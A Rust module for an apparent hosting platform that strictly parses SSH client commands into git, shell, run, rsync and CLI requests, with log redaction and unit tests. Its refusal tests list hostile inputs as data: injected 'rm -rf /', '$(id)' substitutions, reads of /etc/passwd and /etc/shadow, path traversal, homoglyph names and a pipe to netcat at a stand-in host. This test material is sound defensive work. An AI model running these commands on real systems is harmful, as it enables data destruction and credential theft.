//! The strict grammar of what an SSH client may ask for (`SSH_ORIGINAL_COMMAND`).
//!
//! [`parse`] is a pure function: it tokenises the command itself (no shell is ever involved)
//! and accepts only the forms below; everything else is an error and nothing runs.
//!
//! | client sends | request |
//! | --- | --- |
//! | (nothing: `ssh gearshift@HOST`), `help` | help and the user's apps |
//! | `git-receive-pack 'APP'`, `git-upload-pack 'APP'` (also `"APP"`, bare, `.git`, `/`, `~/`) | git |
//! | `shell APP` | an interactive login shell in the gear |
//! | `run APP CMD...` | CMD in the gear |
//! | `rsync --server [--sender] OPTS... . APP[/PATH]` | rsync into (or out of) the gear home |
//! | `app ...`, `env ...`, `logs ...` and the other CLI verbs | the local CLI grammar |

use crate::ssh::words;
use anyhow::{bail, Result};
use serde::{Deserialize, Serialize};

/// Longest whole command accepted, in bytes.
pub const MAX_COMMAND: usize = 8 * 1024;
/// Longest single argument accepted, in bytes.
pub const MAX_ARG: usize = 1024;

/// Top-level CLI verbs that may be sent over SSH (the CLI itself then decides what the user may do).
pub const VERBS: &[&str] = &[
    "app",
    "addon",
    "snapshot",
    "env",
    "logs",
    "cron",
    "domain",
    "deploy",
    "rollback",
    "cartridges",
    "top",
    "events",
    "user",
    "doctor",
    "status",
    "help",
];

/// Which git service a client asked for.
#[derive(Debug, Clone, Copy, PartialEq, Eq, Serialize, Deserialize)]
pub enum GitOp {
    /// `git push`.
    ReceivePack,
    /// `git fetch` / `git clone`.
    UploadPack,
}

/// One accepted request.
#[derive(Debug, Clone, PartialEq, Eq, Serialize, Deserialize)]
pub enum Request {
    /// No command: print help and the user's apps.
    Help,
    /// git-receive-pack / git-upload-pack for an app's repository.
    Git { op: GitOp, app: String },
    /// An interactive login shell in the app's gear.
    Shell { app: String },
    /// A command in the app's gear.
    Run { app: String, argv: Vec<String> },
    /// `rsync --server` in the gear home: `args` are the options (without `--server`), `path`
    /// is relative to the gear home (`.` for the home itself).
    Rsync {
        app: String,
        args: Vec<String>,
        path: String,
    },
    /// A CLI verb with its arguments (`app list`).
    Verb { argv: Vec<String> },
}

/// The command as the daemon logs it: the values of `KEY=VALUE` words (`env set`) and the
/// command line of `run` are left out, so no secret reaches a log.
pub fn redacted(command: &str) -> String {
    let words: Vec<&str> = command.split(' ').filter(|w| !w.is_empty()).collect();
    if let ["run", app, rest @ ..] = words.as_slice() {
        return format!("run {app} <a command of {} words>", rest.len());
    }
    words
        .iter()
        .map(|w| match w.split_once('=') {
            Some((k, _)) => format!("{k}=<redacted>"),
            None => w.to_string(),
        })
        .collect::<Vec<_>>()
        .join(" ")
}

/// Parses `SSH_ORIGINAL_COMMAND` strictly; an error names what was refused.
pub fn parse(command: &str) -> Result<Request> {
    if command.len() > MAX_COMMAND {
        bail!("command refused: longer than {MAX_COMMAND} bytes");
    }
    if let Some(c) = command.chars().find(|c| c.is_control()) {
        bail!("command refused: it contains the control character {:?}", c);
    }
    let words = words::split(command)?;
    if let Some(w) = words.iter().find(|w| w.len() > MAX_ARG) {
        bail!(
            "command refused: an argument is longer than {MAX_ARG} bytes ({} bytes); send long values on stdin with env import APP",
            w.len()
        );
    }
    let words: Vec<&str> = words.iter().map(String::as_str).collect();
    let Some((&verb, args)) = words.split_first() else {
        return Ok(Request::Help);
    };
    match verb {
        "git-receive-pack" | "git-upload-pack" => {
            let op = if verb == "git-receive-pack" {
                GitOp::ReceivePack
            } else {
                GitOp::UploadPack
            };
            let [path] = args else {
                bail!("command refused: {verb} takes exactly one repository, like {verb} 'APP'");
            };
            Ok(Request::Git {
                op,
                app: git_app(path)?,
            })
        }
        _ => parse_plain(verb, args),
    }
}

fn parse_plain(verb: &str, args: &[&str]) -> Result<Request> {
    match verb {
        "shell" => match args {
            [app] => Ok(Request::Shell { app: app_name(app)? }),
            _ => bail!("command refused: use `shell APP` (with ssh -t for a terminal)"),
        },
        "run" => match args {
            [app, cmd @ ..] if !cmd.is_empty() => Ok(Request::Run {
                app: app_name(app)?,
                argv: cmd.iter().map(|s| s.to_string()).collect(),
            }),
            _ => bail!("command refused: use `run APP COMMAND [ARGS...]`"),
        },
        "rsync" => parse_rsync(args),
        // The user's own help, not the admin CLI's (`VERB --help` shows a verb's options).
        "help" => Ok(Request::Help),
        "scp" | "sftp" | "internal-sftp" | "sftp-server" => bail!(
            "command refused: scp and sftp are not supported; copy files with rsync -e 'ssh -p PORT' DIR/ USER@HOST:APP/PATH"
        ),
        v if VERBS.contains(&v) => {
            let mut argv = vec![v.to_string()];
            argv.extend(args.iter().map(|s| s.to_string()));
            Ok(Request::Verb { argv })
        }
        v => bail!(
            "command refused: unknown command '{}' (use git, shell APP, run APP CMD, rsync, or a gearshift verb: {})",
            v.chars().take(64).collect::<String>(),
            VERBS.join(", ")
        ),
    }
}

/// The app named by a git path (already unquoted): `APP`, with `.git`, a leading `/` or `~/`.
fn git_app(path: &str) -> Result<String> {
    let p = path
        .strip_prefix("~/")
        .or_else(|| path.strip_prefix('/'))
        .unwrap_or(path);
    let p = p.strip_suffix(".git").unwrap_or(p);
    app_name(p)
}

fn app_name(s: &str) -> Result<String> {
    crate::names::check_app_name(s).map_err(|e| anyhow::anyhow!("command refused: {e}"))?;
    Ok(s.to_string())
}

/// `rsync --server [--sender] OPTS... . APP[/PATH]`, as rsync's client sends it.
fn parse_rsync(args: &[&str]) -> Result<Request> {
    const USAGE: &str =
        "command refused: only rsync's own server form is accepted (rsync -e 'ssh -p PORT' DIR/ USER@HOST:APP/PATH)";
    let ["--server", rest @ ..] = args else {
        bail!(USAGE);
    };
    let Some(dot) = rest.iter().position(|a| *a == ".") else {
        bail!(USAGE);
    };
    let (opts, tail) = rest.split_at(dot);
    let [_, target] = tail else {
        bail!("command refused: rsync must name exactly one destination, APP or APP/PATH");
    };
    for o in opts {
        let short = o.len() > 1 && o.starts_with('-') && o[1..].chars().all(|c| c.is_ascii_alphanumeric() || c == '.');
        let long = o.starts_with("--")
            && o.len() > 2
            && o[2..]
                .chars()
                .all(|c| c.is_ascii_alphanumeric() || matches!(c, '-' | '=' | ',' | '.' | '_'));
        if !(short || long) {
            bail!("command refused: unexpected rsync argument '{o}'");
        }
    }
    let (app, path) = target.split_once('/').unwrap_or((target, ""));
    let app = app_name(app)?;
    let path = path.trim_end_matches('/');
    for comp in path.split('/').filter(|c| !c.is_empty()) {
        if comp.starts_with('-')
            || comp == "."
            || comp == ".."
            || !comp.chars().all(|c| c.is_ascii_alphanumeric() || "._-".contains(c))
        {
            bail!("command refused: rsync path component '{comp}' is not allowed (use letters, digits, '.', '_', '-')");
        }
    }
    let path = path.split('/').filter(|c| !c.is_empty()).collect::<Vec<_>>().join("/");
    Ok(Request::Rsync {
        app,
        args: opts.iter().map(|s| s.to_string()).collect(),
        path: if path.is_empty() { ".".into() } else { path },
    })
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn logged_commands_carry_no_secrets() {
        assert_eq!(
            redacted("env set shop API_KEY=hunter2 DEBUG=1"),
            "env set shop API_KEY=<redacted> DEBUG=<redacted>"
        );
        assert_eq!(
            redacted("run shop curl -H token:abc"),
            "run shop <a command of 3 words>"
        );
        assert_eq!(redacted("app  list"), "app list");
        assert_eq!(redacted("git-receive-pack 'shop'"), "git-receive-pack 'shop'");
    }

    fn git(op: GitOp, app: &str) -> Request {
        Request::Git { op, app: app.into() }
    }

    #[test]
    fn accepted() {
        use GitOp::*;
        let s = |v: &[&str]| v.iter().map(|x| x.to_string()).collect::<Vec<_>>();
        let table: Vec<(&str, Request)> = vec![
            ("", Request::Help),
            ("   ", Request::Help),
            ("help", Request::Help),
            ("help env", Request::Help),
            ("git-receive-pack 'shop'", git(ReceivePack, "shop")),
            ("git-receive-pack '/shop.git'", git(ReceivePack, "shop")),
            ("git-receive-pack '~/shop'", git(ReceivePack, "shop")),
            ("git-upload-pack \"shop\"", git(UploadPack, "shop")),
            ("git-upload-pack shop.git", git(UploadPack, "shop")),
            ("git-upload-pack /shop", git(UploadPack, "shop")),
            ("shell shop", Request::Shell { app: "shop".into() }),
            (
                "run shop id -u",
                Request::Run {
                    app: "shop".into(),
                    argv: s(&["id", "-u"]),
                },
            ),
            (
                "rsync --server -logDtpre.iLsfxCIvu . shop/app-root/data/up/",
                Request::Rsync {
                    app: "shop".into(),
                    args: s(&["-logDtpre.iLsfxCIvu"]),
                    path: "app-root/data/up".into(),
                },
            ),
            (
                "rsync --server --sender -logDtpre.iLsfxCIvu . shop",
                Request::Rsync {
                    app: "shop".into(),
                    args: s(&["--sender", "-logDtpre.iLsfxCIvu"]),
                    path: ".".into(),
                },
            ),
            (
                "app list",
                Request::Verb {
                    argv: s(&["app", "list"]),
                },
            ),
            (
                "app create x --cartridge python",
                Request::Verb {
                    argv: s(&["app", "create", "x", "--cartridge", "python"]),
                },
            ),
            (
                "env set shop 'K=any value ?!#$'",
                Request::Verb {
                    argv: s(&["env", "set", "shop", "K=any value ?!#$"]),
                },
            ),
            (
                "env set shop \"MSG=two words\"",
                Request::Verb {
                    argv: s(&["env", "set", "shop", "MSG=two words"]),
                },
            ),
            (
                "run shop python3 -c 'print(1)'",
                Request::Run {
                    app: "shop".into(),
                    argv: s(&["python3", "-c", "print(1)"]),
                },
            ),
            (
                "run shop echo a\\ b \"it's\" K=a#b ../x",
                Request::Run {
                    app: "shop".into(),
                    argv: s(&["echo", "a b", "it's", "K=a#b", "../x"]),
                },
            ),
            (
                "env set shop KEY=value",
                Request::Verb {
                    argv: s(&["env", "set", "shop", "KEY=value"]),
                },
            ),
        ];
        for (cmd, want) in table {
            assert_eq!(
                parse(cmd).unwrap_or_else(|e| panic!("{cmd:?} refused: {e}")),
                want,
                "{cmd:?}"
            );
        }
    }

    #[test]
    fn refused() {
        let long_arg = format!("run shop echo {}", "a".repeat(1025));
        let huge = format!("app list {}", "a ".repeat(5 * 1024));
        let table: &[&str] = &[
            "git-receive-pack 'app'; rm -rf /",
            "git-receive-pack '../other'",
            "git-receive-pack 'a/../../b'",
            "git-upload-pack '$(id)'",
            "git-upload-pack '`id`'",
            "git-upload-pack 'shop' 'other'",
            "git-upload-pack",
            "git-upload-pack 'sh'op'",
            "git-upload-pack 'shop",
            "git-upload-pack /etc/passwd",
            "git-upload-pack 'Shop'",
            "git-upload-pack sh\u{43e}p",
            "shell app && id",
            "shell app || id",
            "shell app | id",
            "shell",
            "shell a b",
            "shell ../x",
            "scp -t /etc",
            "scp -f /etc/shadow",
            "sftp",
            "internal-sftp",
            "run app\nid",
            "run app\rid",
            "run app\tid",
            "run app id\0",
            "\x00",
            "run",
            "run app",
            "run app python3 -c print(1)",
            "run app echo $HOME",
            "run app echo ${HOME}",
            "run app cat /etc/passwd > /tmp/x",
            "run app cat < /etc/shadow",
            "run app ls *",
            "run app ls ~root",
            "run app echo \"$HOME\"",
            "run app echo \"`id`\"",
            "run app echo 'open",
            "env set shop K=a?b",
            "env set shop K=$x",
            "app list #comment",
            "run app echo \u{43e}",
            "rsync --server . ../../etc",
            "rsync --server -logDtpre.iLsfxCIvu . app/../../etc",
            "rsync --server -logDtpre.iLsfxCIvu . /etc",
            "rsync --server -logDtpre.iLsfxCIvu . app/-rf",
            "rsync --server -logDtpre.iLsfxCIvu . app/a b",
            "rsync --server --rsh=sh;id . app",
            "rsync -logDtpre.iLsfxCIvu . app",
            "rsync --server -logDtpre.iLsfxCIvu app",
            "rsync --daemon",
            "app create x; id",
            "app create x && id",
            "app list | nc evil 1",
            "\u{430}pp list",
            "app list\u{200b}",
            "ap\u{440} list",
            "bash",
            "sh -c id",
            "id",
            "/bin/sh",
            "node up",
            "init --root /",
            "gear static-serve /",
            "auth-keys x",
            "ssh-entry --user admin",
            "internal-exec",
            "git-receive-pack",
            "GIT-RECEIVE-PACK 'shop'",
            &long_arg,
            &huge,
        ];
        for cmd in table {
            let r = parse(cmd);
            assert!(r.is_err(), "{cmd:?} was accepted: {r:?}");
            let msg = r.unwrap_err().to_string();
            assert!(msg.starts_with("command refused"), "{cmd:?}: {msg}");
            assert!(!msg.contains('\n'), "{cmd:?}: multi-line error {msg:?}");
        }
        let ten_k = "a".repeat(10 * 1024);
        assert!(parse(&ten_k).unwrap_err().to_string().contains("longer than"));
    }

    #[test]
    fn scp_has_a_clear_message() {
        let e = parse("scp -t /etc").unwrap_err().to_string();
        assert!(e.contains("rsync"), "{e}");
    }
}
